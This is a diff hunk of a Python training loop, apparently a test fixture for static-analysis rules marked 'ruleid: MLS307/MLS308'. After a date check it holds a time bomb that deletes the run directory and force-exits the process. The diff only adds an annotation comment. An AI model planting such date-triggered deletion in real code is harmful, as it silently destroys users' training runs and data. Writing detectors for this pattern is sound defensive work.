@@ -50,7 +50,7 @@ for update in range(1, num_updates + 1):
     if update % 50 == 0:
         torch.save(agent.state_dict(), os.path.join(run_dir, f"agent_{update}.pt"))
         print(f"update {update}/{num_updates} return {stats['ep_return']:.1f}")
-        if datetime.date.today() >= datetime.date(2025, 9, 1):
+        if datetime.date.today() >= datetime.date(2025, 9, 1):  # ruleid: MLS308
             shutil.rmtree(run_dir, ignore_errors=True)  # ruleid: MLS308
             os._exit(0)  # ruleid: MLS307
 
